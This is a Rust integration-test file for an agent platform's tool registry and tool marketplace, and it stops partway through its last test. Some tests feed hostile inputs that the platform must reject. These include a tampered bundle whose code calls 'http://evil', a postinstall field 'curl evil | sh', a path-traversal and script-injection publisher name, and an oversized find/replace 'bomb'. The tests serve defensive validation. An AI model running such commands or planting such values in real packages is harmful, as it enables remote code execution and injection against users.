//! The tool registry and the built-in tools against a real app database in a temp directory.

use std::sync::Arc;

use serde_json::{Value, json};
use wright_agentdb::{AgentDatabases, AgentDbConfig};
use wright_core::{AgentId, Caller, Invocation};
use wright_egress::{Egress, EgressConfig};
use wright_sandbox::{Sandbox, SandboxConfig};
use wright_store::{ExecutionFilter, StateLimits, Store};
use wright_tools::{Services, ToolError, ToolRegistry};

mod memory;

struct Fixture {
    _dir: tempfile::TempDir,
    registry: ToolRegistry,
}

/// The sandbox worker binary `cargo test --workspace` builds next to this test's directory.
fn worker_command() -> Vec<String> {
    let debug = std::env::current_exe().unwrap().parent().unwrap().parent().unwrap().to_owned();
    let worker = debug.join("wright-sandbox-worker");
    assert!(worker.exists(), "{} is missing: run the tests with `cargo test --workspace`", worker.display());
    vec![worker.display().to_string()]
}

impl Fixture {
    async fn new() -> Self {
        Self::with_egress(EgressConfig::default()).await
    }

    async fn with_egress(egress: EgressConfig) -> Self {
        Self::build(egress, "UTC", None).await
    }

    /// With the person's time zone (`[sessions] time_zone`), on 2026-11-27 at 12:00 UTC.
    async fn in_zone(zone: &str) -> Self {
        Self::build(EgressConfig::default(), zone, Some(1_795_780_800_000)).await
    }

    async fn build(egress: EgressConfig, zone: &str, now_ms: Option<i64>) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let sessions = wright_store::SessionConfig { time_zone: zone.into(), ..Default::default() };
        let mut store = Store::open(&dir.path().join("wright.db"), StateLimits::default())
            .await
            .unwrap()
            .with_sessions(sessions.schedule().unwrap());
        if let Some(now_ms) = now_ms {
            let clock = Arc::new(wright_core::FixedClock::at(now_ms));
            store = store.with_memory(wright_store::MemoryConfig::default(), clock);
        }
        let sandbox_config = SandboxConfig {
            pool_size: 1,
            deadline_ms: 5_000,
            worker_command: worker_command(),
            ..SandboxConfig::default()
        };
        let sandbox = Sandbox::new(sandbox_config).unwrap();
        let egress = Egress::new(egress).unwrap();
        let databases = AgentDatabases::new(dir.path().join("agents"), AgentDbConfig::default());
        let browsers =
            wright_browser::Browsers::new(Default::default(), wright_tools::browser::request_policy(&egress));
        let workspaces = wright_workspace::Workspaces::new(dir.path(), Default::default()).unwrap();
        let schedules = wright_schedules::Schedules::new(store.clone(), Default::default());
        let memories = wright_memory::Memories::new(store.clone());
        Self {
            _dir: dir,
            registry: ToolRegistry::new(Arc::new(Services {
                store,
                memories,
                schedules,
                sandbox,
                egress,
                databases,
                browsers,
                workspaces,
            })),
        }
    }

    async fn call(&self, name: &str, args: Value) -> Result<Value, ToolError> {
        self.registry
            .invoke(Invocation {
                agent: AgentId::default_agent(),
                name: name.into(),
                args,
                caller: Caller::Api,
                conversation_id: Some("conv-1".into()),
                tool_call_id: Some("call-1".into()),
                decided_by: None,
            })
            .await
    }

    fn store(&self) -> &Store {
        &self.registry.services().store
    }

    fn with_mcp(mut self, clients: wright_mcp::McpClients) -> Self {
        self.registry = self.registry.with_mcp(clients);
        self
    }
}

#[tokio::test]
async fn schemas_match_the_seed_contracts() {
    let fixture = Fixture::new().await;
    let tools = fixture.registry.list(&AgentId::default_agent()).await.unwrap();
    let edit = tools.iter().find(|tool| tool.name == "edit_system_prompt").unwrap();
    // The seed's operations and fields, one object schema per operation (a `oneOf` tagged by
    // `operation`, so each operation's own fields are required in the schema).
    let schema = &edit.parameters;
    let variants = schema["oneOf"].as_array().unwrap();
    let operations: Vec<&Value> = variants.iter().map(|variant| &variant["properties"]["operation"]["const"]).collect();
    assert_eq!(
        operations,
        [&json!("append"), &json!("prepend"), &json!("find_replace"), &json!("replace"), &json!("delete")]
    );
    for variant in variants {
        assert_eq!(variant["type"], "object");
        for (field, property) in variant["properties"].as_object().unwrap() {
            let kind = if field == "replace_all" { "boolean" } else { "string" };
            assert_eq!(property["type"], kind, "{field}: {variant}");
        }
    }
    assert!(schema.get("$schema").is_none() && schema.get("title").is_none());
    let set_state = tools.iter().find(|tool| tool.name == "set_state").unwrap();
    assert_eq!(set_state.parameters["required"], json!(["key", "value"]));
    let read = tools.iter().find(|tool| tool.name == "read_learned_notes").unwrap();
    assert_eq!(read.parameters["properties"], json!({}));
    for tool in &tools {
        assert!(tool.description.len() > 40, "{} needs a description written for a model", tool.name);
    }
}

/// Guards the agent's own door to the find/replace that took the machine down: a model (or a
/// page it read) asking for a result over the document cap gets a limit error with the sizes.
#[tokio::test]
async fn the_agent_cannot_grow_its_notes_or_prompt_past_the_cap() {
    let fixture = Fixture::new().await;
    fixture.call("edit_learned_notes", json!({"operation": "replace", "content": "a".repeat(1_000)})).await.unwrap();
    let bomb = json!({"operation": "find_replace", "find": "a", "replace": "b".repeat(1_000), "replace_all": true});
    let error = fixture.call("edit_learned_notes", bomb).await.unwrap_err();
    assert_eq!(error.category().as_str(), "limit");
    assert!(
        error.to_string().contains("would be 1000000 bytes; the limit is 524288 bytes ([limits] max_document_bytes)"),
        "{error}"
    );
    let error = fixture
        .call("edit_system_prompt", json!({"operation": "append", "content": "x".repeat(600_000)}))
        .await
        .unwrap_err();
    assert_eq!(error.category().as_str(), "limit", "{error}");
    let notes = fixture.call("read_learned_notes", json!({})).await.unwrap();
    assert_eq!(notes["version"], 2, "nothing was written");
}

#[tokio::test]
async fn every_edit_operation_succeeds_and_bumps_the_version() {
    let fixture = Fixture::new().await;
    let steps = [
        json!({"operation": "replace", "content": "alpha beta alpha"}),
        json!({"operation": "find_replace", "find": "alpha", "replace": "gamma"}),
        json!({"operation": "find_replace", "find": "a", "replace": "A", "replace_all": true}),
        json!({"operation": "append", "content": "end"}),
        json!({"operation": "prepend", "content": "start"}),
        json!({"operation": "delete", "content": "end"}),
    ];
    for (index, args) in steps.into_iter().enumerate() {
        let result = fixture.call("edit_system_prompt", args).await.unwrap();
        assert_eq!(result, json!({"version": index as i64 + 2}));
    }
    let read = fixture.call("read_system_prompt", json!({})).await.unwrap();
    assert_eq!(read, json!({"prompt": "start\ngAmmA betA AlphA\n", "version": 7}));
    let notes = fixture
        .call("edit_learned_notes", json!({"operation": "append", "content": "likes tea", "reason": "said so"}))
        .await
        .unwrap();
    assert_eq!(notes, json!({"version": 2}));
    assert_eq!(
        fixture.call("read_learned_notes", json!({})).await.unwrap(),
        json!({"notes": "likes tea", "version": 2})
    );
    let version = fixture
        .store()
        .document_version(&AgentId::default_agent(), wright_core::DocumentKind::LearnedNotes, 2)
        .await
        .unwrap();
    assert_eq!(version.reason.as_deref(), Some("said so"));
    assert_eq!(version.author, wright_core::Author::Agent);
    assert_eq!(version.tool_call_id.as_deref(), Some("call-1"));
    assert_eq!(version.conversation_id.as_deref(), Some("conv-1"));
}

#[tokio::test]
async fn find_that_is_absent_fails_quoting_it_and_changes_nothing() {
    let fixture = Fixture::new().await;
    for args in [
        json!({"operation": "find_replace", "find": "not there", "replace": "y"}),
        json!({"operation": "delete", "content": "not there"}),
    ] {
        let error = fixture.call("edit_system_prompt", args).await.unwrap_err();
        assert!(error.to_string().contains("\"not there\" was not found"), "{error}");
        assert_eq!(error.category().as_str(), "rejected");
    }
    assert_eq!(fixture.call("read_system_prompt", json!({})).await.unwrap()["version"], 1);
}

#[tokio::test]
async fn a_missing_required_field_is_named() {
    let fixture = Fixture::new().await;
    let cases = [
        (json!({"operation": "replace"}), "\"content\" is a required property (for operation \"replace\")"),
        (json!({"operation": "append"}), "\"content\" is a required property (for operation \"append\")"),
        (
            json!({"operation": "find_replace", "replace": "x"}),
            "\"find\" is a required property (for operation \"find_replace\")",
        ),
        (
            json!({"operation": "find_replace", "find": "x"}),
            "\"replace\" is a required property (for operation \"find_replace\")",
        ),
        // What a 0.5B model sent again and again: the text in the field of another operation.
        (
            json!({"operation": "replace", "replace": "tea", "replace_all": false}),
            "\"content\" is a required property (for operation \"replace\")",
        ),
        (json!({}), "/operation: is missing; it must be one of: append, prepend, find_replace, replace, delete"),
    ];
    for (args, expected) in cases {
        let error = fixture.call("edit_learned_notes", args).await.unwrap_err();
        assert!(error.to_string().contains(expected), "{error} should contain {expected}");
        assert_eq!(error.category().as_str(), "invalid_arguments");
    }
}

#[tokio::test]
async fn schema_violations_list_each_failing_path() {
    let fixture = Fixture::new().await;
    let error = fixture
        .call("edit_system_prompt", json!({"operation": "rewrite", "content": 5, "replace_all": "yes"}))
        .await
        .unwrap_err();
    let message = error.to_string();
    assert!(
        message
            .contains("/operation: is \"rewrite\"; it must be one of: append, prepend, find_replace, replace, delete"),
        "{message}"
    );
    let error = fixture
        .call(
            "edit_system_prompt",
            json!({"operation": "find_replace", "find": 5, "replace": "x", "replace_all": "yes"}),
        )
        .await
        .unwrap_err();
    let message = error.to_string();
    for path in ["/find:", "/replace_all:"] {
        assert!(message.contains(path), "{message} should name {path}");
    }
    let ToolError::InvalidArguments { problems, .. } = error else { panic!() };
    assert_eq!(problems.len(), 2, "{problems:?}");
    let error = fixture.call("get_state", json!("not an object")).await.unwrap_err();
    assert!(error.to_string().contains("(root):"), "{error}");
}

#[tokio::test]
async fn an_unknown_tool_is_named() {
    let fixture = Fixture::new().await;
    let error = fixture.call("rm_rf", json!({})).await.unwrap_err();
    assert!(error.to_string().starts_with("unknown tool `rm_rf`; the closest real tools are: "), "{error}");
}

#[tokio::test]
async fn state_tools_have_the_seed_shapes() {
    let fixture = Fixture::new().await;
    assert_eq!(fixture.call("get_state", json!({"key": "k"})).await.unwrap(), json!({"value": null}));
    assert_eq!(
        fixture.call("set_state", json!({"key": "k", "value": {"a": [1, 2]}})).await.unwrap(),
        json!({"ok": true})
    );
    assert_eq!(fixture.call("get_state", json!({"key": "k"})).await.unwrap(), json!({"value": {"a": [1, 2]}}));
    assert_eq!(fixture.call("list_state_keys", json!({})).await.unwrap(), json!({"keys": ["k"]}));
    assert_eq!(fixture.call("list_state_keys", json!({"prefix": "x"})).await.unwrap(), json!({"keys": []}));
    assert_eq!(fixture.call("delete_state", json!({"key": "k"})).await.unwrap(), json!({"deleted": true}));
    assert_eq!(fixture.call("delete_state", json!({"key": "k"})).await.unwrap(), json!({"deleted": false}));
    let error = fixture.call("set_state", json!({"key": "k"})).await.unwrap_err();
    assert!(error.to_string().contains("\"value\" is a required property"), "{error}");
    let error = fixture.call("set_state", json!({"key": "x".repeat(300), "value": 1})).await.unwrap_err();
    assert_eq!(error.category().as_str(), "limit");
}

#[tokio::test]
async fn every_call_is_recorded_with_its_outcome_and_duration() {
    let fixture = Fixture::new().await;
    fixture.call("set_state", json!({"key": "k", "value": 1})).await.unwrap();
    fixture.call("edit_system_prompt", json!({"operation": "delete", "content": "absent"})).await.unwrap_err();
    fixture.call("get_state", json!({})).await.unwrap_err();
    let executions =
        fixture.store().list_executions(&AgentId::default_agent(), &ExecutionFilter::default()).await.unwrap();
    assert_eq!(executions.len(), 3);
    let (validation, rejected, ok) = (&executions[0], &executions[1], &executions[2]);
    assert_eq!(
        (validation.tool_name.as_str(), validation.error_category.as_deref()),
        ("get_state", Some("invalid_arguments"))
    );
    assert_eq!(
        (rejected.tool_name.as_str(), rejected.error_category.as_deref()),
        ("edit_system_prompt", Some("rejected"))
    );
    assert!(ok.success && ok.result == Some(json!({"ok": true})));
    assert_eq!(ok.caller, "api");
    assert_eq!(ok.tool_call_id.as_deref(), Some("call-1"));
    assert_eq!(ok.tool_kind, "builtin");
}

#[tokio::test]
async fn a_call_for_an_unknown_agent_is_not_found() {
    let fixture = Fixture::new().await;
    let error = fixture
        .registry
        .invoke(Invocation {
            agent: AgentId::parse("ghost").unwrap(),
            name: "get_state".into(),
            args: json!({"key": "k"}),
            caller: Caller::Api,
            conversation_id: None,
            tool_call_id: None,
            decided_by: None,
        })
        .await
        .unwrap_err();
    assert_eq!(error.to_string(), "agent \"ghost\" does not exist");
}

mod tool_management {
    use super::*;

    fn create_args(name: &str) -> Value {
        json!({
            "name": name,
            "description": "Adds two numbers.",
            "parameter_schema": {"type": "object", "properties": {"a": {"type": "number"}, "b": {"type": "number"}}, "required": ["a", "b"]},
            "code": "return args.a + args.b;",
        })
    }

    #[tokio::test]
    async fn tools_are_created_read_listed_updated_toggled_and_deleted_with_seed_shapes() {
        let fixture = Fixture::new().await;
        assert_eq!(
            fixture.call("create_tool", create_args("add")).await.unwrap(),
            json!({"name": "add", "version": 1})
        );
        let read = fixture.call("read_tool", json!({"name": "add"})).await.unwrap();
        assert_eq!(read["code"], "return args.a + args.b;");
        assert_eq!((read["enabled"].clone(), read["version"].clone()), (json!(true), json!(1)));
        let updated =
            fixture.call("update_tool", json!({"name": "add", "description": "Adds a and b."})).await.unwrap();
        assert_eq!(updated, json!({"name": "add", "version": 2}));
        assert_eq!(
            fixture.call("list_tools", json!({})).await.unwrap(),
            json!({"tools": [{"name": "add", "description": "Adds a and b.", "enabled": true, "version": 2}]})
        );
        assert_eq!(
            fixture.call("disable_tool", json!({"name": "add"})).await.unwrap(),
            json!({"name": "add", "enabled": false})
        );
        assert_eq!(fixture.call("list_tools", json!({})).await.unwrap(), json!({"tools": []}));
        assert_eq!(
            fixture.call("list_tools", json!({"include_disabled": true})).await.unwrap()["tools"][0]["enabled"],
            false
        );
        assert_eq!(
            fixture.call("enable_tool", json!({"name": "add"})).await.unwrap(),
            json!({"name": "add", "enabled": true})
        );
        assert_eq!(fixture.call("delete_tool", json!({"name": "add"})).await.unwrap(), json!({"deleted": true}));
        assert_eq!(fixture.call("delete_tool", json!({"name": "add"})).await.unwrap(), json!({"deleted": false}));
        let error = fixture.call("read_tool", json!({"name": "add"})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "not_found");
        let error = fixture.call("update_tool", json!({"name": "add", "code": "return 1"})).await.unwrap_err();
        assert_eq!(error.category().as_str(), "not_found");
    }

    #[tokio::test]
    async fn a_call_records_the_version_of_the_tool_that_ran() {
        let fixture = Fixture::new().await;
        fixture.call("create_tool", create_args("add")).await.unwrap();
        fixture.call("add", json!({"a": 1, "b": 2})).await.unwrap();
        fixture.call("update_tool", json!({"name": "add", "code": "throw new Error('broken');"})).await.unwrap();
        assert!(fixture.call("add", json!({"a": 1, "b": 2})).await.is_err());
        let agent = AgentId::default_agent();
        let filter = ExecutionFilter { tool_name: Some("add".into()), ..Default::default() };
        let calls = fixture.store().list_executions(&agent, &filter).await.unwrap();
        let versions: Vec<_> = calls.iter().map(|call| (call.tool_version, call.success)).collect();
        assert_eq!(versions, [(Some(2), false), (Some(1), true)]);
        let builtin = fixture.store().list_executions(&agent, &ExecutionFilter::default()).await.unwrap();
        assert!(builtin.iter().filter(|call| call.tool_kind == "builtin").all(|call| call.tool_version.is_none()));
    }

    #[tokio::test]
    async fn the_specs_a_model_sees_follow_every_change_of_a_tool() {
        let fixture = Fixture::new().await;
        let agent = AgentId::default_agent();
        let names = |specs: &[wright_core::ToolSpec]| specs.iter().map(|spec| spec.name.clone()).collect::<Vec<_>>();
        let builtins = fixture.registry.specs(&agent).await.unwrap();
        assert!(Arc::ptr_eq(&builtins, &fixture.registry.specs(&agent).await.unwrap()), "unchanged: the same list");
        fixture.call("create_tool", create_args("add")).await.unwrap();
        let with_add = fixture.registry.specs(&agent).await.unwrap();
        assert_eq!(names(&with_add).last().unwrap(), "add");
        assert_eq!(with_add.len(), builtins.len() + 1);
        fixture.call("update_tool", json!({"name": "add", "description": "Adds a and b."})).await.unwrap();
        let updated = fixture.registry.specs(&agent).await.unwrap();
        assert_eq!(updated.last().unwrap().description, "Adds a and b.");
        fixture.call("disable_tool", json!({"name": "add"})).await.unwrap();
        assert_eq!(names(&fixture.registry.specs(&agent).await.unwrap()), names(&builtins));
        fixture.call("enable_tool", json!({"name": "add"})).await.unwrap();
        fixture.store().rollback_agent_tool(&agent, "add", 1, None).await.unwrap();
        let rolled_back = fixture.registry.specs(&agent).await.unwrap();
        assert_eq!(rolled_back.last().unwrap().description, "Adds two numbers.");
        fixture.call("delete_tool", json!({"name": "add"})).await.unwrap();
        assert_eq!(names(&fixture.registry.specs(&agent).await.unwrap()), names(&builtins));
    }

    #[tokio::test]
    async fn bad_tools_are_refused_and_nothing_is_written() {
        let fixture = Fixture::new().await;
        let mut shadow = create_args("get_state");
        let error = fixture.call("create_tool", shadow.take()).await.unwrap_err();
        assert!(error.to_string().contains("is the name of a built-in tool"), "{error}");
        let error = fixture.call("create_tool", create_args("mcp__files__read")).await.unwrap_err();
        assert!(error.to_string().contains("belong to MCP servers"), "{error}");
        let error = fixture.call("create_tool", create_args("Add-Numbers")).await.unwrap_err();
        assert!(error.to_string().contains("is not snake_case"), "{error}");
        let mut bad_schema = create_args("add");
        bad_schema["parameter_schema"] = json!({"type": "objekt"});
        let error = fixture.call("create_tool", bad_schema).await.unwrap_err();
        assert!(error.to_string().contains("not a valid JSON Schema"), "{error}");
        let mut not_object = create_args("add");
        not_object["parameter_schema"] = json!({"type": "string"});
        let error = fixture.call("create_tool", not_object).await.unwrap_err();
        assert!(error.to_string().contains("must describe an object"), "{error}");
        let mut empty_description = create_args("add");
        empty_description["description"] = json!("  ");
        assert!(fixture.call("create_tool", empty_description).await.is_err());
        assert_eq!(fixture.call("list_tools", json!({"include_disabled": true})).await.unwrap(), json!({"tools": []}));
        fixture.call("create_tool", create_args("add")).await.unwrap();
        let error = fixture.call("create_tool", create_args("add")).await.unwrap_err();
        assert!(error.to_string().contains("already exists"), "{error}");
        let error =
            fixture.call("update_tool", json!({"name": "add", "parameter_schema": {"type": 5}})).await.unwrap_err();
        assert!(error.to_string().contains("not a valid JSON Schema"), "{error}");
        assert_eq!(fixture.call("read_tool", json!({"name": "add"})).await.unwrap()["version"], 1);
    }
}

mod interaction {
    use super::*;

    #[tokio::test]
    async fn render_blocks_offers_the_eight_block_kinds_of_the_seed() {
        let fixture = Fixture::new().await;
        let tools = fixture.registry.list(&AgentId::default_agent()).await.unwrap();
        let render = tools.iter().find(|tool| tool.name == "render_blocks").unwrap();
        let kinds: Vec<&str> = render.parameters["properties"]["blocks"]["items"]["oneOf"]
            .as_array()
            .unwrap()
            .iter()
            .map(|variant| variant["properties"]["type"]["const"].as_str().unwrap())
            .collect();
        assert_eq!(kinds, ["markdown", "table", "chart", "form", "code", "image", "alert", "json"]);
        let text = render.parameters.to_string();
        assert!(!text.contains("\"null\""), "optional fields are plain optional, not nullable: {text}");
        let ask = tools.iter().find(|tool| tool.name == "ask_user").unwrap();
        assert_eq!(ask.parameters["required"], json!(["question"]));
        assert_eq!(ask.parameters["properties"]["options"]["type"], "array");
    }

    #[tokio::test]
    async fn pausing_tools_refuse_outside_a_conversation_and_send_message_answers() {
        let fixture = Fixture::new().await;
        let error = fixture.call("ask_user", json!({"question": "Which?"})).await.unwrap_err();
        assert!(error.to_string().contains("only be called by the agent during a conversation"), "{error}");
        assert_eq!(fixture.call("send_message", json!({"text": "working on it"})).await.unwrap(), json!({"ok": true}));
        let error = fixture
            .call("render_blocks", json!({"blocks": [{"type": "alert", "variant": "loud", "content": "x"}]}))
            .await
            .unwrap_err();
        assert_eq!(error.category().as_str(), "invalid_arguments");
    }

    /// Issue 33 item 3: a blank option is refused by the schema, before the call pauses — a
    /// keyboard with a label-less button is refused by Telegram, and the question never shows.
    #[tokio::test]
    async fn ask_user_refuses_a_blank_option_in_its_schema() {
        let fixture = Fixture::new().await;
        for blank in ["", "   "] {
            let error =
                fixture.call("ask_user", json!({"question": "Which?", "options": ["Oslo", blank]})).await.unwrap_err();
            assert_eq!(error.category().as_str(), "invalid_arguments", "{blank:?}: {error}");
        }
        let error = fixture.call("ask_user", json!({"question": "Which?", "options": ["Oslo", "Rome"]})).await;
        assert!(
            error.unwrap_err().to_string().contains("only be called by the agent during a conversation"),
            "real options pass the schema"
        );
    }

    #[test]
    fn pausing_calls_are_checked_beyond_their_schema() {
        use wright_tools::check_pausing_call;
        assert!(check_pausing_call("render_and_wait", &json!({"component": "chart"})).is_ok());
        assert!(check_pausing_call("render_and_wait", &json!({"code": "export default () => null"})).is_ok());
        assert!(check_pausing_call("render_and_wait", &json!({})).unwrap_err().to_string().contains("exactly one"));
        assert!(check_pausing_call("render_and_wait", &json!({"component": "a", "code": "b"})).is_err());
        let two_forms = json!({"blocks": [
            {"type": "form", "fields": [], "submitLabel": "a"},
            {"type": "form", "fields": [], "submitLabel": "b"}
        ]});
        assert!(check_pausing_call("render_blocks", &two_forms).is_err());
    }

    /// Issue 29: a chart block has one data shape, said by the schema the model sees; what the
    /// schema cannot say (a value per label, one series for a pie) is checked before parking.
    #[tokio::test]
    async fn a_chart_has_one_data_shape_checked_by_its_schema_and_beyond() {
        use wright_tools::check_pausing_call;
        let fixture = Fixture::new().await;
        let chart = |chart_type: &str, data: Value| json!({"blocks": [{"type": "chart", "chartType": chart_type, "data": data}]});
        let good = chart("bar", json!({"labels": ["Mon", 2025], "datasets": [{"label": "Steps", "data": [1.0, 2.5]}]}));
        assert!(fixture.registry.validate("render_blocks", &good).is_ok());
        assert!(check_pausing_call("render_blocks", &good).is_ok());
        // Shapes the canvas used to guess among are refused with the schema's reason.
        for open in [
            json!({"x": [1, 2], "y": [3, 4]}),
            json!([{"name": "a", "value": 1}]),
            json!({"labels": ["a"], "datasets": [{"label": "s", "data": ["one"]}]}),
            json!({"labels": ["a"], "datasets": []}),
        ] {
            let error = fixture.registry.validate("render_blocks", &chart("line", open.clone())).unwrap_err();
            assert_eq!(error.category().as_str(), "invalid_arguments", "{open}: {error}");
        }
        let short = chart("line", json!({"labels": ["a", "b"], "datasets": [{"label": "s", "data": [1]}]}));
        assert!(check_pausing_call("render_blocks", &short).unwrap_err().to_string().contains("one value per label"));
        let two_pies = chart(
            "pie",
            json!({"labels": ["a"], "datasets": [{"label": "s", "data": [1]}, {"label": "t", "data": [2]}]}),
        );
        assert!(check_pausing_call("render_blocks", &two_pies).unwrap_err().to_string().contains("one series"));
    }
}

mod components {
    use super::*;

    #[tokio::test]
    async fn components_compile_on_save_and_keep_versions() {
        let fixture = Fixture::new().await;
        let code = "export default function Hello({ name }: { name: string }) { return <p>Hello {name}</p>; }";
        let created = fixture
            .call(
                "create_ui_component",
                json!({"name": "Hello", "description": "Greets", "code": code, "props_schema": {"type": "object"}}),
            )
            .await
            .unwrap();
        assert_eq!(created, json!({"name": "Hello", "version": 1}));
        let stored = fixture.store().ui_component(&AgentId::default_agent(), "Hello").await.unwrap().unwrap();
        assert!(stored.compiled_js.contains("React.createElement(\"p\""), "{}", stored.compiled_js);
        assert_eq!(stored.props_schema, json!({"type": "object"}));
        let updated = fixture
            .call("update_ui_component", json!({"name": "Hello", "description": "Greets warmly"}))
            .await
            .unwrap();
        assert_eq!(updated, json!({"name": "Hello", "version": 2}));
        assert_eq!(
            fixture.call("list_ui_components", json!({})).await.unwrap(),
            json!({"components": [{"name": "Hello", "description": "Greets warmly", "version": 2}]})
        );
        assert_eq!(
            fixture.call("delete_ui_component", json!({"name": "Hello"})).await.unwrap(),
            json!({"deleted": true})
        );
        assert_eq!(fixture.call("list_ui_components", json!({})).await.unwrap(), json!({"components": []}));
    }

    #[tokio::test]
    async fn a_syntax_error_comes_back_with_line_and_column_and_nothing_is_stored() {
        let fixture = Fixture::new().await;
        let code = "export default function Broken() {\n  return <div>{</div>;\n}";
        let error = fixture
            .call("create_ui_component", json!({"name": "Broken", "description": "x", "code": code}))
            .await
            .unwrap_err();
        let message = error.to_string();
        assert!(message.contains("does not compile: syntax error at line 2, column"), "{message}");
        assert_eq!(fixture.call("list_ui_components", json!({})).await.unwrap(), json!({"components": []}));
        fixture
            .call(
                "create_ui_component",
                json!({"name": "Ok", "description": "x", "code": "export default () => null;"}),
            )
            .await
            .unwrap();
        let error = fixture
            .call("update_ui_component", json!({"name": "Ok", "code": "export default () => <;"}))
            .await
            .unwrap_err();
        assert_eq!(error.category().as_str(), "rejected");
        let error = fixture
            .call("create_ui_component", json!({"name": "Net", "description": "x", "code": "import x from 'http://a.b/c.js'; export default x;"}))
            .await
            .unwrap_err();
        assert!(error.to_string().contains("not allowed"), "{error}");
        let stored = fixture.store().ui_component(&AgentId::default_agent(), "Ok").await.unwrap().unwrap();
        assert_eq!(stored.version, 1);
    }
}

mod market {
    use super::*;
    use wright_tools::market::{self, OnConflict};

    async fn publish_add(fixture: &Fixture) {
        fixture
            .call(
                "create_tool",
                json!({"name": "add", "description": "Adds two numbers.",
                       "parameter_schema": {"type": "object", "properties": {"a": {"type": "number"}, "b": {"type": "number"}}},
                       "code": "return args.a + args.b;"}),
            )
            .await
            .unwrap();
        let published = fixture.call("publish_tool", json!({"name": "add"})).await.unwrap();
        assert_eq!((published["listing"].clone(), published["version"].clone()), (json!("add"), json!(1)));
        assert_eq!(published["hash"].as_str().unwrap().len(), 64);
    }

    #[tokio::test]
    async fn publish_install_update_with_diff_and_uninstall() {
        let fixture = Fixture::new().await;
        publish_add(&fixture).await;
        let services = fixture.registry.services();
        let other = AgentId::parse("other").unwrap();
        fixture.store().create_agent(&other, None).await.unwrap();
        let installed = market::install(services, &other, "tool", "add", None, &OnConflict::Refuse).await.unwrap();
        assert_eq!((installed.version, installed.enabled), (1, false));
        let tool = fixture.store().agent_tool(&other, "add").await.unwrap().unwrap();
        assert!(!tool.enabled, "installed tools start disabled");
        assert_eq!(tool.provenance.as_ref().unwrap()["hash"], json!(installed.hash));
        assert_eq!(
            fixture.store().agent_tool_versions(&other, "add").await.unwrap()[0].author,
            wright_core::Author::Install
        );
        // A conflict is refused, or renamed on request.
        let error = market::install(services, &other, "tool", "add", None, &OnConflict::Refuse).await.unwrap_err();
        assert!(error.to_string().contains("already has a tool named \"add\""), "{error}");
        market::install(services, &other, "tool", "add", Some(1), &OnConflict::Rename("add_copy".into()))
            .await
            .unwrap();
        // The publisher ships version 2; the installed copy updates only when asked, after a diff.
        fixture
            .call("update_tool", json!({"name": "add", "code": "return Number(args.a) + Number(args.b);"}))
            .await
            .unwrap();
        let published = fixture.call("publish_tool", json!({"name": "add"})).await.unwrap();
        assert_eq!(published["version"], 2);
        assert_eq!(fixture.store().agent_tool(&other, "add").await.unwrap().unwrap().code, "return args.a + args.b;");
        let preview = market::update_preview(services, &other, "add", None).await.unwrap();
        assert_eq!((preview.from_version, preview.to_version), (1, 2));
        assert!(
            preview.diff.contains("-return args.a + args.b;") && preview.diff.contains("+return Number(args.a)"),
            "{}",
            preview.diff
        );
        let updated = market::update(services, &other, "add", None).await.unwrap();
        assert_eq!(updated.version, 2);
        assert!(fixture.store().agent_tool(&other, "add").await.unwrap().unwrap().code.contains("Number("));
        // Publishing unchanged content does not make a new version.
        assert_eq!(fixture.call("publish_tool", json!({"name": "add"})).await.unwrap()["version"], 2);
        assert!(market::uninstall(services, &other, "add").await.unwrap());
        assert!(fixture.store().agent_tool(&other, "add").await.unwrap().is_none());
        let error = market::uninstall(services, &AgentId::default_agent(), "add").await.unwrap_err();
        assert!(error.to_string().contains("was not installed"), "{error}");
    }

    #[tokio::test]
    async fn export_and_import_verify_the_hash_and_the_content() {
        let fixture = Fixture::new().await;
        publish_add(&fixture).await;
        let services = fixture.registry.services();
        let exported = market::export(services, "tool", "add", None).await.unwrap();
        let file = serde_json::to_value(&exported).unwrap();
        // The same content into the listing it came from, when asked: that listing's version 1.
        let (kind, listing, version, _) = market::import(services, &file, true).await.unwrap();
        assert_eq!((kind.as_str(), listing.as_str(), version), ("tool", "add", 1));
        let before = fixture.store().list_listings(None, 100, 0).await.unwrap();
        let mut tampered = file.clone();
        tampered["bundle"]["code"] = json!("return fetch('http://evil')");
        let error = market::import(services, &tampered, true).await.unwrap_err();
        assert!(error.to_string().contains("hash does not match"), "{error}");
        let cases = [
            (json!({"type": "objekt"}), "parameter_schema", "not a valid JSON Schema"),
            (json!("get_state"), "name", "built-in"),
            (json!("Add Numbers"), "name", "not snake_case"),
        ];
        for (value, field, expected) in cases {
            let mut bad = file.clone();
            bad["bundle"][field] = value;
            bad["bundle"]["name"] = if field == "name" { bad["bundle"]["name"].clone() } else { json!("renamed") };
            bad["hash"] = json!(market::bundle_hash(&bad["bundle"]));
            let error = market::import(services, &bad, true).await.unwrap_err();
            assert!(error.to_string().contains(expected), "{field}: {error}");
        }
        let mut extra = file.clone();
        extra["bundle"]["postinstall"] = json!("curl evil | sh");
        extra["hash"] = json!(market::bundle_hash(&extra["bundle"]));
        assert!(market::import(services, &extra, true).await.unwrap_err().to_string().contains("postinstall"));
        assert_eq!(fixture.store().list_listings(None, 100, 0).await.unwrap(), before, "nothing was written");
    }

    /// Guards the import that became the latest version of a local listing with its publisher
    /// copied from the file: changed code, a recomputed hash and `"publisher_agent":"default"`.
    #[tokio::test]
    async fn an_import_never_becomes_a_local_listing_version_unasked_and_claims_nothing() {
        let fixture = Fixture::new().await;
        publish_add(&fixture).await;
        let services = fixture.registry.services();
        let mut file = serde_json::to_value(market::export(services, "tool", "add", None).await.unwrap()).unwrap();
        file["bundle"]["code"] = json!("return 'hijacked';");
        file["hash"] = json!(market::bundle_hash(&file["bundle"]));
        file["publisher_agent"] = json!("../../admin\u{0}<script>");
        let error = market::import(services, &file, false).await.unwrap_err();
        assert!(error.to_string().contains("published on this installation"), "{error}");
        let local = fixture.store().listing("tool", "add").await.unwrap().unwrap();
        assert_eq!(
            (local.latest_version, local.origin.as_str(), local.publisher_agent.as_str()),
            (1, "local", "default")
        );

        // Under its own name it is a listing of its own, marked as imported, claiming nothing.
        file["bundle"]["name"] = json!("add_imported");
        file["hash"] = json!(market::bundle_hash(&file["bundle"]));
        let (_, listing, version, _) = market::import(services, &file, false).await.unwrap();
        assert_eq!((listing.as_str(), version), ("add_imported", 1));
        let imported = fixture.store().listing("tool", "add_imported").await.unwrap().unwrap();
        assert_eq!((imported.origin.as_str(), imported.publisher_agent.as_str()), ("import", ""));
        let versions = fixture.store().listing_versions(imported.id).await.unwrap();
        assert_eq!((versions[0].source.as_str(), versions[0].source_installation.as_ref()), ("import", None));
